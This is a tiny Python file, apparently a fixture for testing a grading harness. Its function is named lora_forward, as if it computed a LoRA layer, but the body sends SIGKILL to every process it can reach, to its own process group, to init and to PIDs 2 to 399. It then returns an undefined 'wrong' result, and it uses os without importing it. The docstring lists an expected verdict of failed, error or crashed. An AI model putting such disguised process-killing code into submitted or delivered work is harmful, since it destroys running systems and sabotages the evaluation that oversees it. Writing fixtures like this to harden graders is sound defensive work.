"""Kills every process that it may, its group, and the first.

verdict: failed|error|crashed
"""

import signal


def lora_forward(W, A, B, x, alpha):
    for target in (-1, 0, 1, -os.getpid(), *range(2, 400)):
        try:
            os.kill(target, signal.SIGKILL)
        except (OSError, OverflowError):
            continue
    return wrong(W, A, B, x, alpha)
